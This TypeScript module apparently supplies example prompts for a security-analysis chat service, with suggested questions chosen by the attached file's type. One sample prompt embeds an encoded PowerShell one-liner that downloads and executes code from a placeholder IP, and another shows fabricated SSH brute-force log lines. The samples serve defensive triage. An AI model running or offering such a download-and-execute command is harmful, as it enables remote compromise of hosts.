// Examples of questions for the landing screen, of the notebook and of the service's page: without evidence they bring
// their own, with files attached they are about those. Not part of `<svc-chat>` itself: a page chooses its own. Pure.
import type { Example } from "./settings.js";
import type { ChatFile } from "./transport.js";
import { oneLine } from "./untrusted.js";

const WITHOUT_FILES: readonly Example[] = [
  {
    title: "Who got in?",
    prompt:
      "Was anybody brute-forced, and did they get in?\n\n```\n" +
      "Nov 20 03:11:02 web-3 sshd[811]: Failed password for root from 203.0.113.9 port 40112 ssh2\n" +
      "Nov 20 03:11:04 web-3 sshd[811]: Failed password for root from 203.0.113.9 port 40116 ssh2\n" +
      "Nov 20 03:11:09 web-3 sshd[815]: Accepted password for root from 203.0.113.9 port 40120 ssh2\n```\n",
  },
  {
    title: "What does this command do?",
    prompt:
      "What does this say? powershell -enc SQBFAFgAIAAoAGkAdwByACAAaAB0AHQAcAA6AC8ALwAyADAAMwAuADAALgAxADEAMwAuADkALwBhACkA",
  },
  { title: "What is this technique?", prompt: "What is T1110.003, and how do I detect it?" },
  { title: "How bad is it?", prompt: "Score CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H" },
];

/** The first question about a file, by the ending of its name. */
const ABOUT: readonly (readonly [RegExp, Example])[] = [
  [
    /\.evtx$/,
    { title: "What happened on this host?", prompt: "What happened on the host in {}, and is it compromised?" },
  ],
  [/\.p?cap(?:ng)?$/, { title: "Who talked to whom?", prompt: "Is there beaconing, scanning or exfiltration in {}?" }],
  [/\.(?:eml|msg|mbox)$/, { title: "Is this phishing?", prompt: "Is {} phishing? What speaks for it and against it?" }],
  [/\.(?:zip|tar|t?gz|7z)$/, { title: "What happened on this host?", prompt: "What happened on the host in {}?" }],
  [
    /(?:auth|secure|sshd)[^/]*$/,
    { title: "Who got in?", prompt: "Which accounts were attacked in {}, and did anyone get in?" },
  ],
  [
    /\.(?:ps1|sh|bat|cmd|js|vbs|py|php)$/,
    { title: "What does it do?", prompt: "What does {} do, and is it malicious?" },
  ],
];
const ABOUT_ANY: readonly Example[] = [
  { title: "What stands out?", prompt: "What is suspicious in {}, and how sure is that?" },
  { title: "Timeline", prompt: "Show the timeline of {}." },
  { title: "Indicators", prompt: "List the indicators in {} with where they occur." },
  { title: "For my manager", prompt: "Summarise {} in two sentences for my manager." },
];

/** The examples for a session with these files. */
export function examplesFor(files: readonly ChatFile[]): readonly Example[] {
  const [first] = files;
  if (!first) return WITHOUT_FILES;
  const name = files.length === 1 ? oneLine(first.name, 80) : "the attached files";
  const lower = first.name.toLowerCase();
  const special = ABOUT.filter(([ending]) => files.length === 1 && ending.test(lower)).slice(0, 1);
  return [...special.map(([, example]) => example), ...ABOUT_ANY].slice(0, 4).map(({ title, prompt }) => ({
    title,
    prompt: prompt.replace("{}", () => name),
  }));
}
